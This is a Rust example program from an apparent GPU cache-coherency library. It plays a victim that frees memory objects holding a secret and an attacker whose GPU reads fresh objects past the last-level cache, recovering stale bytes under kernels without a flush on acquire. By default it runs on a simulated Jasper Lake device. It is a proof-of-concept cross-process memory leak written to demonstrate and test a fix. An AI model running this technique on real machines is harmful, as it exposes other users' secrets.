//! The leak that the flush on acquire closes on Jasper Lake and Elkhart Lake: a victim that frees objects full of a secret, and an
//! attacker whose GPU reads new objects around the LLC.
//!
//! ```sh
//! cargo run --example stale_pages -- --device sim:jsl,kernel=5.14     # the GPU reads the victim's bytes
//! cargo run --example stale_pages -- --device sim:jsl,kernel=6.12     # the kernel flushes first
//! cargo run --example stale_pages -- --device sim:jsl,kernel=5.14 --entry 2     # through the LLC
//! ```
//!
//! The library's checks and flushes take no part: an attacker has none, and the program also runs under kernels that the library
//! refuses. `docs/stale-pages.md` tells the story.

mod args;
mod gpu;

use std::process::ExitCode;

use gem_coherency::platform;
use gem_coherency_sim::PREVIOUS_OWNER;

use args::{Args, Role, USAGE};
use gpu::{Gpu, Object, Reader, Result};

/// The victim's bytes. They are those that the software i915, which reuses no pages, leaves in the memory of each new object.
const SECRET: [u8; 16] = PREVIOUS_OWNER;
/// The bytes of the attacker's destination before the GPU writes it.
const UNWRITTEN: [u8; 4] = [0xdd; 4];

/// Numbers of dwords that the GPU read from new objects.
#[derive(Default)]
struct Found {
    victims: u64,
    zeros: u64,
    others: u64,
    unwritten: u64,
}

impl Found {
    /// Counts the dwords of a copy of an object.
    fn count(&mut self, copy: &[u8]) {
        for (dword, secret) in copy.chunks_exact(4).zip(SECRET.chunks_exact(4).cycle()) {
            *if dword == secret {
                &mut self.victims
            } else if dword == [0; 4] {
                &mut self.zeros
            } else if dword == UNWRITTEN {
                &mut self.unwritten
            } else {
                &mut self.others
            } += 1;
        }
    }

    /// Returns the number of all dwords.
    fn all(&self) -> u64 {
        self.victims + self.zeros + self.others + self.unwritten
    }
}

/// Fills objects with the secret, writes it back to memory as evictions would, and frees the objects.
fn victim(args: &Args) -> Result<()> {
    let gpu = Gpu::open(&args.device)?;
    let secret = SECRET.repeat(args.bytes as usize / SECRET.len());
    let mut objects = Vec::new();
    for _ in 0..args.objects {
        let object = Object::new(&gpu, args.bytes)?;
        object.fill(&secret)?;
        objects.push(object);
    }
    drop(objects);
    println!("victim: wrote the secret, and freed it: {} x {} bytes", args.objects, args.bytes);
    Ok(())
}

/// Lets the GPU read new objects that the CPU does not touch, and counts what it read.
fn attacker(args: &Args) -> Result<Found> {
    let gpu = Gpu::open(&args.device)?;
    let entry = match (args.entry, args.reader) {
        (Some(entry), _) => Some(entry),
        (None, Reader::Shader) => Some(gpu.bypassing_entry()?),
        (None, Reader::Blitter) => None,
    };
    let machine = gpu.machine();
    let (platform, kernel) = (machine.platform.title, machine.kernel);
    let path = match entry {
        Some(entry) => format!("MOCS entry {entry} ({})", platform::mocs_class(machine, entry)),
        None => "the page table's caching".to_owned(),
    };
    println!(
        "attacker: {platform}, kernel {kernel}; {} reads by {path}: {} x {} bytes",
        args.reader, args.objects, args.bytes
    );
    let target = Object::new(&gpu, args.bytes)?;
    target.share_with_gpu()?;
    let unwritten = UNWRITTEN.repeat(args.bytes as usize / UNWRITTEN.len());
    let mut copy = unwritten.clone();
    let mut found = Found::default();
    // None is closed before the last one was read: the next one would get the same pages.
    let mut objects = Vec::new();
    for _ in 0..args.objects {
        let object = Object::new(&gpu, args.bytes)?;
        target.fill(&unwritten)?;
        gpu.copy(&object, &target, args.reader, entry)?;
        target.load(&mut copy)?;
        found.count(&copy);
        objects.push(object);
    }
    Ok(found)
}

/// Prints what the GPU read; returns the exit status. Dwords of others leak, too: an earlier owner of the pages wrote them.
fn report(found: &Found) -> ExitCode {
    let Found { victims, zeros, others, unwritten } = found;
    for (what, dwords) in [("the victim's", victims), ("zeros", zeros), ("others", others)] {
        println!("  {what:<12} {dwords:>10} dwords");
    }
    if *unwritten > 0 {
        eprintln!("stale_pages: the GPU did not write {unwritten} of {} dwords of the copy", found.all());
        return ExitCode::from(2);
    }
    println!("{victims} of {} dwords that the GPU read are the victim's", found.all());
    ExitCode::from(u8::from(*zeros < found.all()))
}

/// Plays the roles; returns the exit status.
fn play(args: &Args) -> Result<ExitCode> {
    match args.role {
        Role::Victim => victim(args).map(|()| ExitCode::SUCCESS),
        Role::Attacker => attacker(args).map(|found| report(&found)),
        Role::Both => {
            victim(args)?;
            attacker(args).map(|found| report(&found))
        }
    }
}

fn main() -> ExitCode {
    let result = match Args::parse(std::env::args().skip(1)) {
        Ok(Some(args)) => play(&args),
        Ok(None) => {
            print!("{USAGE}");
            return ExitCode::SUCCESS;
        }
        Err(error) => Err(error.into()),
    };
    result.unwrap_or_else(|error| {
        eprintln!("stale_pages: {error}");
        ExitCode::from(2)
    })
}
